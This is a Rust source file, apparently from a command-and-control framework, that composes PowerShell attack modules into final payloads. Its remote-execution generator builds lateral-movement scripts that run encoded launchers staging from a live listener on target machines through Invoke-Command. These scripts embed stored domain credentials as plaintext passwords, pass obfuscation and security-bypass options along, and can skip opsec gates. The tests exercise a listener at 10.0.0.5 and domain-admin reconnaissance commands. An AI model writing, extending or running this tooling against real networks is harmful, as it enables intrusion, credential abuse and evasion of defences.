//! Script composer — turns a task module plus runtime parameters into a
//! final artifact.
//!
//! Composition is deliberately narrow string assembly, not a templating
//! engine: interpolated values get a single quote-escaping pass
//! (`"` → `` `" ``) matching the weak quoting rules of the eventual
//! execution target. That behavior is a compatibility requirement.
//!
//! Each module owns its interdependency rules: the `generator` key in the
//! module definition selects a compiled-in [`ModuleGenerator`], and that
//! generator is the module's own check point for required parameters and
//! mutual-exclusion rules. There is no shared global parameter schema.

use std::collections::HashMap;

use once_cell::sync::Lazy;

use crate::host::HostContext;
use crate::listeners::{Language, LauncherRequest, ListenerTracker};
use crate::templates::{TemplateError, TemplateInstance, TemplateKind, TemplateRegistry};

use super::error::GenerationError;

/// A request to generate one artifact from a task module.
#[derive(Debug, Clone, Default)]
pub struct GenerationRequest {
    /// Task-module slug.
    pub module: String,
    /// Runtime parameter mapping. Keys the module does not declare are
    /// ignored; missing required values are caught by the module's own
    /// generator.
    pub params: HashMap<String, String>,
    /// Forward the composed script through the output transform.
    pub obfuscate: bool,
    /// Operator-supplied transform command.
    pub obfuscation_command: String,
    /// Skip the needs-admin / opsec-safe capability gates.
    pub ignore_checks: bool,
}

impl GenerationRequest {
    pub fn new(module: &str) -> Self {
        GenerationRequest {
            module: module.to_string(),
            ..Default::default()
        }
    }

    pub fn param(mut self, name: &str, value: &str) -> Self {
        self.params.insert(name.to_string(), value.to_string());
        self
    }
}

/// Single-pass quote escaping for values interpolated into a script.
///
/// This is the only escaping composition performs; the execution target's
/// own quoting rules are intentionally mirrored, so do not extend this
/// without a compatibility decision.
pub fn escape_literal(value: &str) -> String {
    value.replace('"', "`\"")
}

/// Merge a module's option defaults with the request's parameter mapping.
///
/// Only keys the module declares are taken from the request; everything
/// else is ignored.
fn resolve_params(
    module: &TemplateInstance,
    request_params: &HashMap<String, String>,
) -> HashMap<String, String> {
    let mut params: HashMap<String, String> = module
        .options
        .iter()
        .map(|(name, option)| (name.clone(), option.value.to_string()))
        .collect();
    for (key, value) in request_params {
        if params.contains_key(key) {
            params.insert(key.clone(), value.clone());
        }
    }
    params
}

fn param<'a>(params: &'a HashMap<String, String>, name: &str) -> &'a str {
    params.get(name).map(String::as_str).unwrap_or("")
}

/// Reject any required module option whose resolved value is blank.
///
/// Mirrors listener option validation: every violation is gathered before
/// returning, and the error names them all.
fn check_required_params(
    module: &TemplateInstance,
    params: &HashMap<String, String>,
) -> Result<(), GenerationError> {
    let mut violations: Vec<&str> = Vec::new();
    for (name, option) in &module.options {
        if option.required && param(params, name).trim().is_empty() {
            violations.push(name);
        }
    }
    if violations.is_empty() {
        return Ok(());
    }
    violations.sort_unstable();
    let listed = violations
        .iter()
        .map(|name| format!("\"{}\"", name))
        .collect::<Vec<_>>()
        .join(", ");
    Err(GenerationError::Validation(format!(
        "required option(s) {} missing for {}",
        listed,
        module.id()
    )))
}

/// Fetch the module's source fragment: inline script first, then the
/// source-store path.
fn module_source(
    host: &HostContext,
    module: &TemplateInstance,
) -> Result<Option<String>, GenerationError> {
    if let Some(script) = &module.descriptor.script {
        return Ok(Some(script.clone()));
    }
    if let Some(path) = &module.descriptor.script_path {
        let source = host
            .sources
            .fetch(path)
            .map_err(|e| GenerationError::Source(format!("{}: {}", path, e)))?;
        return Ok(Some(source));
    }
    Ok(None)
}

/// Completion trailer shared by the built-in generators.
fn completion_trailer(module: &TemplateInstance, params: &HashMap<String, String>) -> String {
    let output_function = {
        let declared = param(params, "OutputFunction");
        if declared.is_empty() {
            "Out-String"
        } else {
            declared
        }
    };
    format!(
        " | {} | %{{$_ + \"`n\"}};\"`n{} completed!\"",
        output_function,
        module.descriptor.short_name()
    )
}

// ============================================================================
// Module generators
// ============================================================================

/// The module's own generation logic: parameter checks, interdependency
/// rules, dependency resolution, and text assembly.
pub trait ModuleGenerator: Send + Sync {
    fn generate(
        &self,
        host: &HostContext,
        tracker: &ListenerTracker,
        module: &TemplateInstance,
        params: &HashMap<String, String>,
    ) -> Result<String, GenerationError>;
}

/// Default generator: source fragment plus the declared `script_end`
/// trailer with `{{ Option }}` placeholders substituted.
struct PlainGenerator;

impl ModuleGenerator for PlainGenerator {
    fn generate(
        &self,
        host: &HostContext,
        _tracker: &ListenerTracker,
        module: &TemplateInstance,
        params: &HashMap<String, String>,
    ) -> Result<String, GenerationError> {
        check_required_params(module, params)?;
        let source = module_source(host, module)?.ok_or_else(|| {
            GenerationError::Source(format!(
                "module {} declares neither script nor script_path",
                module.id()
            ))
        })?;

        let mut trailer = module.descriptor.script_end.clone().unwrap_or_default();
        for (name, value) in params {
            let placeholder = format!("{{{{ {} }}}}", name);
            if trailer.contains(&placeholder) {
                trailer = trailer.replace(&placeholder, &escape_literal(value));
            }
        }
        if trailer.trim().is_empty() {
            return Ok(source);
        }
        trailer.push_str(&completion_trailer(module, params));
        Ok(format!("{}\n{}", source, trailer))
    }
}

/// Remote-execution generator: resolves a credential and a live listener
/// (or a literal command) into an `Invoke-Command` payload.
struct RemoteExecGenerator;

impl RemoteExecGenerator {
    /// Build the evasion-forwarding launcher request from module params.
    fn launcher_request(params: &HashMap<String, String>) -> LauncherRequest {
        LauncherRequest {
            language: Some(Language::PowerShell),
            encode: true,
            obfuscate: param(params, "Obfuscate").eq_ignore_ascii_case("true"),
            obfuscation_command: param(params, "ObfuscateCommand").to_string(),
            user_agent: non_empty_or(param(params, "UserAgent"), "default"),
            proxy: non_empty_or(param(params, "Proxy"), "default"),
            proxy_creds: non_empty_or(param(params, "ProxyCreds"), "default"),
            bypasses: param(params, "Bypasses")
                .split_whitespace()
                .map(str::to_string)
                .collect(),
        }
    }
}

fn non_empty_or(value: &str, fallback: &str) -> String {
    if value.trim().is_empty() {
        fallback.to_string()
    } else {
        value.to_string()
    }
}

impl ModuleGenerator for RemoteExecGenerator {
    fn generate(
        &self,
        host: &HostContext,
        tracker: &ListenerTracker,
        module: &TemplateInstance,
        params: &HashMap<String, String>,
    ) -> Result<String, GenerationError> {
        check_required_params(module, params)?;
        let listener_name = param(params, "Listener").trim().to_string();
        let command = param(params, "Command").trim().to_string();

        // Exactly one of Listener / Command.
        if listener_name.is_empty() && command.is_empty() {
            return Err(GenerationError::Validation(
                "Listener or Command required".to_string(),
            ));
        }
        if !listener_name.is_empty() && !command.is_empty() {
            return Err(GenerationError::Validation(
                "Cannot use Listener and Command at the same time".to_string(),
            ));
        }

        // Credential resolution comes before any listener work.
        let mut user_name = param(params, "UserName").to_string();
        let mut password = param(params, "Password").to_string();
        let cred_id = param(params, "CredID").trim();
        if !cred_id.is_empty() {
            if !host.credentials.is_valid(cred_id) {
                return Err(GenerationError::InvalidCredential(cred_id.to_string()));
            }
            let cred = host
                .credentials
                .get(cred_id)
                .ok_or_else(|| GenerationError::InvalidCredential(cred_id.to_string()))?;
            user_name = format!("{}\\{}", cred.domain, cred.username);
            password = cred.password;
        }

        // Listener must be live, not merely loaded.
        let payload = if !listener_name.is_empty() {
            if !tracker.is_valid(&listener_name) {
                return Err(GenerationError::InvalidListener(listener_name));
            }
            let request = Self::launcher_request(params);
            let launcher = tracker
                .generate_launcher(host, &listener_name, &request)
                .map_err(|e| {
                    log::warn!("launcher generation failed for \"{}\": {}", listener_name, e);
                    GenerationError::Launcher(listener_name.clone())
                })?;
            if launcher.trim().is_empty() {
                return Err(GenerationError::Launcher(listener_name));
            }
            launcher
        } else {
            escape_literal(&command)
        };

        let computer_names = param(params, "ComputerName")
            .split(',')
            .map(|c| format!("\"{}\"", c.trim()))
            .collect::<Vec<_>>()
            .join(",");

        let mut script_end = format!(
            "Invoke-Command -ComputerName @({}) -ScriptBlock {{{}}}",
            computer_names, payload
        );
        if !user_name.is_empty() && !password.is_empty() {
            script_end = format!(
                "$PSPassword = \"{}\" | ConvertTo-SecureString -asPlainText -Force;\
                 $Credential = New-Object System.Management.Automation.PSCredential(\"{}\",$PSPassword);\
                 {} -Credential $Credential",
                escape_literal(&password),
                escape_literal(&user_name),
                script_end
            );
        }
        script_end.push_str(&completion_trailer(module, params));

        match module_source(host, module)? {
            Some(source) => Ok(format!("{}\n{}", source, script_end)),
            None => Ok(script_end),
        }
    }
}

/// Compiled-in generator registry, keyed by the `generator` identifier a
/// module definition declares. Absent keys select `plain`.
static GENERATORS: Lazy<HashMap<&'static str, &'static (dyn ModuleGenerator)>> =
    Lazy::new(|| {
        let mut generators: HashMap<&'static str, &'static (dyn ModuleGenerator)> =
            HashMap::new();
        generators.insert("plain", &PlainGenerator);
        generators.insert("remote_exec", &RemoteExecGenerator);
        generators
    });

fn generator_for(module: &TemplateInstance) -> Result<&'static dyn ModuleGenerator, GenerationError> {
    let key = module.descriptor.generator.as_deref().unwrap_or("plain");
    GENERATORS.get(key).copied().ok_or_else(|| {
        GenerationError::Validation(format!(
            "unknown generator \"{}\" for module {}",
            key,
            module.id()
        ))
    })
}

// ============================================================================
// Pipeline entry point
// ============================================================================

/// Compose the final script for a generation request.
///
/// Any failure short-circuits with a structured error and no partial
/// artifact. On success the output-transform's result is returned
/// verbatim; note that some legacy call sites treat an empty success as a
/// sentinel, so emptiness must never be conflated with failure.
pub fn generate(
    host: &HostContext,
    tracker: &ListenerTracker,
    registry: &TemplateRegistry,
    request: &GenerationRequest,
) -> Result<String, GenerationError> {
    let module = registry
        .get(&request.module)
        .ok_or_else(|| TemplateError::NotFound(request.module.clone()))?;
    if module.kind() != TemplateKind::Module {
        return Err(GenerationError::Validation(format!(
            "template {} is not a task module",
            module.id()
        )));
    }

    if !module.descriptor.enabled {
        return Err(GenerationError::Disabled(module.id().to_string()));
    }
    if !request.ignore_checks {
        if module.descriptor.needs_admin {
            return Err(GenerationError::Validation(format!(
                "module {} requires an elevated context",
                module.id()
            )));
        }
        if !module.descriptor.opsec_safe {
            return Err(GenerationError::Validation(format!(
                "module {} is not opsec safe",
                module.id()
            )));
        }
    }

    let params = resolve_params(module, &request.params);
    let generator = generator_for(module)?;
    let script = generator.generate(host, tracker, module, &params)?;

    if request.obfuscate {
        return Ok(host
            .obfuscator
            .transform(&script, &request.obfuscation_command));
    }
    Ok(script)
}

#[cfg(test)]
mod tests {
    use std::path::Path;
    use std::sync::Arc;

    use super::*;
    use crate::host::{
        CredentialRef, MemoryCredentialStore, Obfuscator, SourceStore,
    };
    use crate::listeners::http::HttpListener;
    use crate::templates::{TemplateDescriptor, TemplateInstance};

    struct MapSourceStore(HashMap<String, String>);

    impl SourceStore for MapSourceStore {
        fn fetch(&self, path: &str) -> anyhow::Result<String> {
            self.0
                .get(path)
                .cloned()
                .ok_or_else(|| anyhow::anyhow!("no such fragment: {}", path))
        }
    }

    struct TaggingObfuscator;

    impl Obfuscator for TaggingObfuscator {
        fn transform(&self, source: &str, command: &str) -> String {
            format!("<{}>{}", command, source)
        }
    }

    fn fixture_host() -> HostContext {
        let mut creds = MemoryCredentialStore::new();
        creds.insert(
            "7",
            CredentialRef {
                domain: "CORP".to_string(),
                username: "svc_backup".to_string(),
                password: "hunter2".to_string(),
            },
        );
        let mut sources = HashMap::new();
        sources.insert(
            "lateral_movement/exec.ps1".to_string(),
            "function Invoke-Exec { }".to_string(),
        );
        HostContext::new("/tmp/kestrel-test")
            .with_credentials(Arc::new(creds))
            .with_sources(Arc::new(MapSourceStore(sources)))
            .with_obfuscator(Arc::new(TaggingObfuscator))
    }

    fn module_instance(yaml: &str, slug: &str) -> TemplateInstance {
        let mut descriptor =
            TemplateDescriptor::from_yaml(TemplateKind::Module, yaml, Path::new("modules/m.yaml"))
                .unwrap();
        descriptor.id = slug.to_string();
        TemplateInstance::from_descriptor(Arc::new(descriptor))
    }

    fn remote_exec_module() -> TemplateInstance {
        module_instance(
            r#"
module:
  name: Invoke Exec
  category: lateral_movement
  generator: remote_exec
  script_path: lateral_movement/exec.ps1
  options:
    Listener:
      description: "Listener to use."
      value: ""
    Command:
      description: "Custom command to run instead of a launcher."
      value: ""
    CredID:
      description: "Credential ID to run with."
      value: ""
    UserName:
      description: "Username to run with."
      value: ""
    Password:
      description: "Password for the username."
      value: ""
    ComputerName:
      description: "Targets, comma separated."
      required: true
      value: "WS01,WS02"
    UserAgent:
      description: "User agent for staging."
      value: "default"
    Proxy:
      description: "Proxy for staging."
      value: "default"
    ProxyCreds:
      description: "Proxy credentials."
      value: "default"
    Obfuscate:
      description: "Obfuscate the launcher."
      value: "False"
    ObfuscateCommand:
      description: "Launcher obfuscation command."
      value: ""
    Bypasses:
      description: "Bypasses to prepend, space separated."
      value: ""
    OutputFunction:
      description: "Output conversion function."
      value: "Out-String"
"#,
            "lateral_movement_exec",
        )
    }

    fn live_tracker(host: &HostContext) -> ListenerTracker {
        let yaml = r#"
listener:
  name: HTTP
  protocol: http
  options:
    Name:
      description: "Name for the listener."
      required: true
      value: "ops-http"
    Host:
      description: "Hostname/IP for staging."
      required: true
      value: "http://10.0.0.5"
    DefaultProfile:
      description: "Default communication profile."
      required: true
      value: "/admin/get.php,/news.php|Mozilla/5.0"
"#;
        let mut descriptor = TemplateDescriptor::from_yaml(
            TemplateKind::Listener,
            yaml,
            Path::new("listeners/http.yaml"),
        )
        .unwrap();
        descriptor.id = "http".to_string();
        let listener = HttpListener::new(TemplateInstance::from_descriptor(Arc::new(descriptor)));
        let tracker = ListenerTracker::new();
        tracker.start("", Box::new(listener), host).unwrap();
        tracker
    }

    fn registry_with(module: TemplateInstance) -> TemplateRegistry {
        let mut registry = TemplateRegistry::new();
        let slug = module.id().to_string();
        registry.register(&slug, module);
        registry
    }

    #[test]
    fn test_listener_or_command_required() {
        let host = fixture_host();
        let registry = registry_with(remote_exec_module());
        let request = GenerationRequest::new("lateral_movement_exec");
        let err = generate(&host, &ListenerTracker::new(), &registry, &request).unwrap_err();
        assert_eq!(err.to_string(), "Listener or Command required");
    }

    #[test]
    fn test_listener_and_command_are_exclusive() {
        let host = fixture_host();
        let tracker = live_tracker(&host);
        let registry = registry_with(remote_exec_module());
        let request = GenerationRequest::new("lateral_movement_exec")
            .param("Listener", "ops-http")
            .param("Command", "whoami");
        let err = generate(&host, &tracker, &registry, &request).unwrap_err();
        assert_eq!(
            err.to_string(),
            "Cannot use Listener and Command at the same time"
        );
    }

    #[test]
    fn test_blank_required_param_refuses_generation() {
        let host = fixture_host();
        let registry = registry_with(remote_exec_module());
        let request = GenerationRequest::new("lateral_movement_exec")
            .param("Command", "whoami")
            .param("ComputerName", "  ");
        let err = generate(&host, &ListenerTracker::new(), &registry, &request).unwrap_err();
        assert!(matches!(err, GenerationError::Validation(_)));
        assert!(err.to_string().contains("\"ComputerName\""));

        // Same rule through the default generator.
        let module = module_instance(
            r#"
module:
  name: Get Things
  script: "function Get-Things { }"
  script_end: "Get-Things -Filter \"{{ Filter }}\""
  options:
    Filter:
      description: "Filter expression."
      required: true
      value: ""
"#,
            "get_things",
        );
        let registry = registry_with(module);
        let err = generate(
            &host,
            &ListenerTracker::new(),
            &registry,
            &GenerationRequest::new("get_things"),
        )
        .unwrap_err();
        assert!(err.to_string().contains("\"Filter\""));
    }

    #[test]
    fn test_invalid_credential_fails_before_listener_resolution() {
        let host = fixture_host();
        let registry = registry_with(remote_exec_module());
        // Both the credential and the listener are invalid; the credential
        // check must win.
        let request = GenerationRequest::new("lateral_movement_exec")
            .param("Listener", "no-such-listener")
            .param("CredID", "99");
        let err = generate(&host, &ListenerTracker::new(), &registry, &request).unwrap_err();
        assert!(matches!(err, GenerationError::InvalidCredential(ref id) if id == "99"));
    }

    #[test]
    fn test_invalid_listener_names_identifier() {
        let host = fixture_host();
        let registry = registry_with(remote_exec_module());
        let request =
            GenerationRequest::new("lateral_movement_exec").param("Listener", "no-such-listener");
        let err = generate(&host, &ListenerTracker::new(), &registry, &request).unwrap_err();
        assert!(matches!(err, GenerationError::InvalidListener(ref n) if n == "no-such-listener"));
        assert!(err.to_string().contains("no-such-listener"));
    }

    #[test]
    fn test_listener_path_composes_source_launcher_and_trailer() {
        let host = fixture_host();
        let tracker = live_tracker(&host);
        let registry = registry_with(remote_exec_module());
        let request =
            GenerationRequest::new("lateral_movement_exec").param("Listener", "ops-http");
        let script = generate(&host, &tracker, &registry, &request).unwrap();

        assert!(script.starts_with("function Invoke-Exec { }\n"));
        assert!(script.contains("Invoke-Command -ComputerName @(\"WS01\",\"WS02\")"));
        assert!(script.contains("powershell -noP -sta -w 1 -enc "));
        assert!(script.contains("| Out-String |"));
        assert!(script.contains("Invoke Exec completed!"));
    }

    #[test]
    fn test_command_path_escapes_quotes_once() {
        let host = fixture_host();
        let registry = registry_with(remote_exec_module());
        let request = GenerationRequest::new("lateral_movement_exec")
            .param("Command", "net group \"Domain Admins\" /domain");
        let script = generate(&host, &ListenerTracker::new(), &registry, &request).unwrap();
        assert!(script.contains("net group `\"Domain Admins`\" /domain"));
    }

    #[test]
    fn test_credential_resolution_fills_trailer() {
        let host = fixture_host();
        let registry = registry_with(remote_exec_module());
        let request = GenerationRequest::new("lateral_movement_exec")
            .param("Command", "whoami")
            .param("CredID", "7");
        let script = generate(&host, &ListenerTracker::new(), &registry, &request).unwrap();
        assert!(script.contains("PSCredential(\"CORP\\svc_backup\",$PSPassword)"));
        assert!(script.contains("$PSPassword = \"hunter2\""));
        assert!(script.contains("-Credential $Credential"));
    }

    #[test]
    fn test_unknown_parameter_keys_are_ignored() {
        let host = fixture_host();
        let registry = registry_with(remote_exec_module());
        let request = GenerationRequest::new("lateral_movement_exec")
            .param("Command", "whoami")
            .param("NotARealOption", "whatever");
        assert!(generate(&host, &ListenerTracker::new(), &registry, &request).is_ok());
    }

    #[test]
    fn test_obfuscation_is_forwarded() {
        let host = fixture_host();
        let registry = registry_with(remote_exec_module());
        let mut request =
            GenerationRequest::new("lateral_movement_exec").param("Command", "whoami");
        request.obfuscate = true;
        request.obfuscation_command = "Token\\All\\1".to_string();
        let script = generate(&host, &ListenerTracker::new(), &registry, &request).unwrap();
        assert!(script.starts_with("<Token\\All\\1>"));
    }

    #[test]
    fn test_capability_gates() {
        let host = fixture_host();
        let tracker = ListenerTracker::new();

        let disabled = module_instance(
            "module:\n  name: Off\n  enabled: false\n  script: \"x\"\n",
            "off",
        );
        let registry = registry_with(disabled);
        let err = generate(&host, &tracker, &registry, &GenerationRequest::new("off")).unwrap_err();
        assert!(matches!(err, GenerationError::Disabled(_)));

        let admin = module_instance(
            "module:\n  name: Adm\n  needs_admin: true\n  script: \"x\"\n",
            "adm",
        );
        let registry = registry_with(admin);
        let mut request = GenerationRequest::new("adm");
        assert!(generate(&host, &tracker, &registry, &request).is_err());
        request.ignore_checks = true;
        assert!(generate(&host, &tracker, &registry, &request).is_ok());
    }

    #[test]
    fn test_plain_generator_substitutes_script_end() {
        let host = fixture_host();
        let module = module_instance(
            r#"
module:
  name: Get Things
  script: "function Get-Things { }"
  script_end: "Get-Things -Filter \"{{ Filter }}\""
  options:
    Filter:
      description: "Filter expression."
      value: "name=\"svc\""
"#,
            "situational_awareness_get_things",
        );
        let registry = registry_with(module);
        let request = GenerationRequest::new("situational_awareness_get_things");
        let script = generate(&host, &ListenerTracker::new(), &registry, &request).unwrap();
        assert!(script.starts_with("function Get-Things { }\n"));
        // The option value got the single escaping pass.
        assert!(script.contains("Get-Things -Filter \"name=`\"svc`\"\""));
        assert!(script.contains("Get Things completed!"));
    }

    #[test]
    fn test_unknown_module_and_wrong_kind() {
        let host = fixture_host();
        let registry = TemplateRegistry::new();
        let err = generate(
            &host,
            &ListenerTracker::new(),
            &registry,
            &GenerationRequest::new("missing"),
        )
        .unwrap_err();
        assert!(matches!(
            err,
            GenerationError::Template(TemplateError::NotFound(_))
        ));

        // A listener slug is not generatable as a task module.
        let yaml = "listener:\n  name: L\n  protocol: http\n";
        let mut descriptor = TemplateDescriptor::from_yaml(
            TemplateKind::Listener,
            yaml,
            Path::new("listeners/l.yaml"),
        )
        .unwrap();
        descriptor.id = "l".to_string();
        let mut registry = TemplateRegistry::new();
        registry.register("l", TemplateInstance::from_descriptor(Arc::new(descriptor)));
        let err = generate(
            &host,
            &ListenerTracker::new(),
            &registry,
            &GenerationRequest::new("l"),
        )
        .unwrap_err();
        assert!(matches!(err, GenerationError::Validation(_)));
        assert!(err.to_string().contains("not a task module"));
    }
}
